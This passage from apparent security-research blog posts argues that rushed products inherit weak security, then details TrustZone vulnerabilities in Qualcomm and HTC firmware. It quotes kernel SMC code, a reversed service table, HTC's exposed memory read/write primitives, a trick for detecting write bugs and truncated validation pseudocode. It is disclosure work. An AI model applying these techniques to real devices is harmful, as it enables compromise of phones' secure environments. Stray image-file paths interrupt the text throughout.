For the “novel & new” product designs, you are laden with selling the concept that the market has a hole and consumers simply can’t live in a world with such a void. As your product is alone init’s space, it sells itself once the consumer is convinced of the overall void.

Now, I mention the advertising space because I believe it embodies a considerable amount of how you as an innovator personally see your product. It is a faint echo of what your priorities are and a telling exhibit of how you are specifically positioned in the market. It also allows me (as a security researcher) to assume what level of security to expect in the product. I do this by extrapolating your security design as a function of “assumed priorities” and “time from design to market”, generally the faster you race the weaker I expect your implementations are. It is logical (although a bit cheating), but the metric seems valid from analysis to date.

In general, no company is going to reinvent the wheel. There is no need, it costs too much and is generally a bad idea (hopefully gone are the days of rolling yourown crypto). Instead, I predict your product will be based on a fairly standard design:
  • You have some embedded processor running Linux (or if you hate me personally, Windows)
    • If you are constrained or concerned about speed / size / power, you drop linux and ship with an RTOS or code on bare metal instead
  • Following good software engineering principles, your code is modular and uses large swaths of code not written specifically for this project (libc, WiFi and IP stacks, display drivers, etc.)
  • You build your product around a known processor and follow design guidelines from the manufacturer, possibly even basing your design on a template provided by the vendor
  • Knowing mistakes happen, you ship your device with debugging capabilities enabled or easily re-enabled… this helps with RMA problems and figuring out how fielded devices fail

This in essence is efficient design, you offload as much engineering as you can on previously proven and fielded devices and leave only the hard and specific problems to yourself. You cut costs and gain a robust support architecture. Aside from the last bullet, this mentality it is asound. But in reality nothing is free, and these choices have the following consequence:

As a researcher, I am already familiar with your product before you ship it
  • I know the system on chip reference designs and suggested hardware designs
  • I know the operating system particulars
  • I know how to debugyour product
  • I am aware of the known issues in your building blocks

In general, this is why I see innovation “Time to Market” as a realistic metric for “Time to Failure”. Your wonderful engineering practices and time savingapproaches leave your product prone to exploitation. In a grim reality, your largest saving grace when racing to push things to market is the actual market saturation itself; the case is not “is your device insecure” as much as “has anyone spent the time to look at it instead of a competitor or another device”. I honestly don’t mean to be dismissive here, I respect the hard engineering problems you have overcome. I’m simply stating that I find it rare that a “novel new product” is actually new or unknown to us in the security industry. To borrow from the above example, your new smart TV is identical to the embedded industrial control system I looked at last week.

I promise we are almost past the dour news, but simply stated the following assumptions appear to drive your "idea to design to development to shipping" cycle:
  • Assumption #1: Your special sauce is cutting / bleeding edge and highly innovative. You race these concepts to market before they are secure expecting protection from your building blocks. This is highly understandable from a market perspective, though maybe not the best idea.
  • Assumption #2: You assume your selected platforms and building blocks aresecure because they are fielded by others. This is sadly incorrect in a general sense. The vendors in that space are following assumption #1 and you are simply the powerless consumer.
We all want to stand on the shoulders of those that came before us, but we need to take the time to understand the limitations of those principles.

Your product will never be 100% secure, nothing is. That is no excuse to not understand your actual security posture and the inherited posture of your base platforms. It is honestly a hard problem, so I will suggest a mindset that might help:

Aim for is a level of security based on the ROI of what you are protecting.

Understand the financial impetus of your market and your potential attackers. Respect your consumer and their needs as much as you respect your own device. This is a simple idea that should be obvious, but I see it disregarded too often to not specifically mention.

It is not that linux and your other “off the shelf” building blocks cannot be configured to be secure enough for your use case, the real problem is that in your rush to market you assume they already are and nothing could be further from ground truth.

What you can do:
  • Stop assuming security is someone else’s problem
  • Start considering what potential your product has to be misused
  • Don’t just test your product with a “happy test path” mentality
  • Actively ask your engineers to break your design BEFORE you commit a single line of code or anything to silicon and don't write code until they fail at this task
  • Continue this process until you ship your device
  • Continue this process as you iterate designs on a shipped product
  • Ask for help
  • Consider what side effect implications your product has to your customerenvironments

I don’t mean to shill our services here, but seriously you should ask for external eyes on your design and your product from someone qualified to help. Don’t think that just because we are security consultants or hackers that we are the enemy. Semantics aside, we are honestly here to help. Hire someone to tell you your weak points and take heed to the reports. Consider it an integral part of your marketing budget; I promise it will be considerably cheaper that trying to play publicity cleanup once issues are out in the open.

If you want a product with longevity and a customer base that will continue to buy into your brand and vision, you need to respect them. Take care of them, protect them and don't assume someone else will. The security of your customer is just as much your responsibility as delivering a newdevice to them is. The decision may delay your time to market by a week or a month, but the end result will be a better product and a better world.

Thursday, August 14

Here Be Dragons: Vulnerabilities in TrustZone

In June we presented on vulnerabilities in the Qualcomm & HTC implementations of TrustZone at REcon2014. We have been patiently waiting to drop the research to those interested, and now that Vegas is behind us, we can finally do so.

Why the wait? Well, after REcon, we noted that Dan Rosenberg was presenting on TrustZone research at Black Hat USA, and out of respect for Dan's work, Atredis decided to sit on this blogpost until after his talk. Overlaps and similar research happen all the time, and since BlackHat was fairly close at the time we thought it best to let Dan have the mic. Dan's stuff is great - you should check out his slides and WP; he dropped a good bug with similar impact, and it covers some TZ components not discussed here.

[What is TrustZone?]

The ARM specification of TrustZone Technology has been heavily promoted as the "be all, end all" solution for mobile security. Through extensive marketing promises of easy BYOD, secure pin entry, and protection against APT (not to mention the ubiquity of ARM chips soldered into mobile devices) TrustZone has become the de-facto standard for claiming and providing a "secure processing environment" in cellular handsets.

While a secure processing environment sounds like an awesome thing to have as an end user, the realistic drivers for the massive TrustZone adoption are not owner empowerment but the more mundane use-case of Digital Rights Management (DRM). Thesecure enclave of TrustZone is primarily used to facilitate vendor locks and DRM processing, rather than increasing the difficulty in compromising user data. Further, due to TZ architecture, the inclusion of DRM protections provide a net reduction in real world security provided to the device owner.

Soap box and ramblings aside, Google is your friend if you want more specification data from ARM or if you want high level details from Qualcomm's fortress of shallow marketing materials (trademark pending)... but enough already, let's talk details.

You can watch our REcon presentation here, but unfortunately the first 10-15 minutes was cut off. We're using this blog post to document the vulnerabilities reported to HTC and shed some further light on TrustZone.

[Funny aside: after finding HTC's PGP key on their site and emailing them, they got back to us a month later saying they couldn't open it, and to please send in the clear. We obliged, and they've told us it's fixed, but we are unable to validate until a new firmware revision makes it through a carrier and into the real world.]


TZ consumes untrusted input from a number of places:
  • SMC [Secure Monitor Call] interface (has had the most public research)
  • Interrupts
  • Shared Memory
  • Peripherals
We primarily focused on the SMC interface for this round of TZ research. Additionally,we built a fuzzer for TZ that resulted in a metric ton of crashes, but because of architectural reasons, we still think the best route for TZ vuln discovery (on the SMC interface) is via static reversing.


The SMC interface is invoked by utilizing the SMC ARM instruction from supervisor mode, meaning you need to be in the kernel. You invoke the instruction with a pointer to a physical memory location that contain the below structures. Code snippits below are taken from arch/arm/mach-msm/scm.c from an Android kernel.
 42  * An SCM command is laid out inmemory as follows:
 43  *
 44  *      --- <--- struct scm_command
 45  *      | command header  |
 46  *      ---
 47  *      | command buffer  |
 48  *      --- <--- struct scm_response
 49  *      | response header |
 50  *      ---
 51  *      | response buffer |
 52  *      ---

The scm_command struct contains its total length, offset to its request buffer, offset to its response buffer header (which in turn contains another offset to its own buffer), and the buffers themselves:
 58 struct scm_command {
 59         u32     len;
 60         u32     buf_offset;
 61u32     resp_hdr_offset;
 62         u32     id;
 63         u32     buf[0];
 64 };

The resp_hdr_offset entry points to:
 72 struct scm_response {
 73         u32     len;
 74         u32     buf_offset;
 75         u32     is_complete;
 76 };

Lastly, the example kernel driver code that utilizes these buffers:
164 static u32 smc(u32 cmd_addr)
165 {
166         int context_id;
167         register u32 r0 asm("r0") = 1;
168         register u32 r1 asm("r1") = (u32)&context_id;
169         register u32 r2 asm("r2") = cmd_addr;
170         do {
171                 asm volatile(
172                         __asmeq("%0", "r0")173                         __asmeq("%1", "r0")
174                         __asmeq("%2", "r1")
175                         __asmeq("%3", "r2")
176 #ifdef REQUIRES_SEC
177                         ".arch_extension sec\n"
178 #endif
179                         "smc    #0      @ switch to secure world\n"
180                         : "=r" (r0)
181                         : "r" (r0), "r" (r1), "r" (r2)
182                         : "r3");
183         } while (r0 == SCM_INTERRUPTED);
185         return r0;
186 }

When smc is called, the command buffer will contain a struct made up the ID of the TZ service being called and an arbitrary number of variables needed for that function.

As oneexample, scm_set_boot_addrin scm-boot.c invokes SMC like so:
 22 int scm_set_boot_addr(phys_addr_t addr, unsigned int flags)
 23 {
 24         struct {
 25                 unsigned int flags;
 26                 unsigned long addr;
 27         } cmd;
 29         cmd.addr  = addr;
 30         cmd.flags = flags;
 31         return scm_call(SCM_SVC_BOOT, SCM_BOOT_ADDR,
 32                         &cmd, sizeof(cmd), NULL, 0);
 33 }

[Aside: SCM is not a typo. Qualcomm actually chose SCM, "Secure Channel Manager", as a wrapper for SMC. The scm_call function simply spins up the correct kernel buffers and converts virtual addresses to their phys counterparts.]

OK, so we know how SMC works, what can we actually talk to?

[TrustZone Services]

Inside TZ, there is a table labeling all the services, command IDs, location of the function implementing a given service, return types, and the number and size of arguments. It looks like this:
ROM:2A02E054                 DCD 0x801               ; Service ID
ROM:2A02E058                 DCD aTzbsp_pil_init     ; "tzbsp_pil_init_image_ns"
ROM:2A02E05C                 DCD 0x1D                ; Return type
ROM:2A02E060                 DCD tzbsp_pil_init_image_ns+1
ROM:2A02E064                 DCD 2                   ; Number of arguments
ROM:2A02E068                 DCD 4                   ; Size of arg1
ROM:2A02E06C                 DCD 4                   ; Size of arg2
ROM:2A02E070                 DCD 0x805ROM:2A02E074                 DCDaTzbsp_pil_auth     ; "tzbsp_pil_auth_reset_ns"
ROM:2A02E078                 DCD 0x1D
ROM:2A02E07C                 DCD tzbsp_pil_auth_reset_ns+1
ROM:2A02E080                 DCD 1
ROM:2A02E084                 DCD 4

... And so on.

From here, we can enumerate all available services, know what to expect them to return, as well as know how many arguments to send and what size they are.

[Pointer: this table is really useful for figuring out the base of the firmware imagewhen you extract it from a device or a firmware file. The string pointer for service 0x801 shouldalways point to "tzbsp_pil_init_image_ns", giving you the offset values you need to calculate its base.]

Looking at the full listing, most are part of the Qualcomm core functionality available on all supported devices, but OEMs have the option of extending it with their own services. HTC extended theirs considerably, so let's focus on them:

Look at those primitives! _write_mem, _read_mem, _memcpy?!

Ah, so here's where we learn a new valuable lesson about TZ service security: Everyone does their own thing. To summarize it:
  • Each function individually validates input on invocation.
  • HTC utilizes an access bitmask representing each of their tzbsp_oem functions, with a check at the top of every function determining if the service is disabled or not. (See [is_service_enabled] below. This is how HTC disables those fantastical exploit primitives listed above.)
  • Qualcomm does not universally block access to any of their functions. If they're present, it's assumed they're needed, and while input is validated, the function itself is accessible to the kernel.
  • Qualcomm's input validation uses a check against several protected memory regions, bailing out if you touch any of them.
  • Some OEMs perform their own validation of input against their specific address ranges, rather than using QC's list. Their addresses are, umm, less complete.
  • Some platforms copy QC's model, performing the same validation.
Onething I'll point out about this model is that each function has to do it correctly, themselves. Guess how consistent it is across all of the given players?[Randomness: You may notice the tzbsp_oem_do_something function. We've seen that function in numerous vendor implementations, and we can only suspect it is sample code that QC provides to OEMs who just leave it in their production code. If you are curious what that function does, however, you will usually find it merely returns 0. Yes, the aptly named tzbsp_oem_do_something inevitably does nothing.]

[Enter HTC]

One short piece of information before we dive into the bugs.


This is the bitmask I was referencing above that HTC added to their OEM functions. The bitmask starts off as 0xFFFFFFFF in flash, and during boot,dangerous functions are turned off once they are not needed. This is perhaps a fragile model, but it does allow the temporary usage of TZ services that can later be disabled after they are no longer needed.
signed int __fastcall is_svc_enabled(unsigned __int8 svc_id)
  return g_disable_bitmask & (1 << svc_id);

[Note: TZ does quite a bit of validation, to varying degrees of success, on addresses passed in to ensure writes to secure memory don't occur. Because of this, if you pass in the address of a kernel variable to detect a write vulnerability, it won't tell you anything, because it is not a secure address. So how can you detect write vulnerabilities without reversing them? Well, you can pass in the address of g_disable_bitmask and then try to invoke all OEM functions as a poor man's read primitive. If your write succeeded, you will see that different functions are now enabled/disabled.]

[tzbsp_oem_access_item, address validation]

#define IS_TZ_MEMORY(x) (x >= 0x2A000000 && x < 0x2B000000)

int tzbsp_oem_access_item(int write_flag, int item_id, void * addr, int len) {
  if (!is_svc_enabled(26)) {
    return -4;

  if (IS_TZ_MEMORY(addr) || IS_TZ_MEMORY(addr + len - 1) ) && addr < 0x2A03F000) {
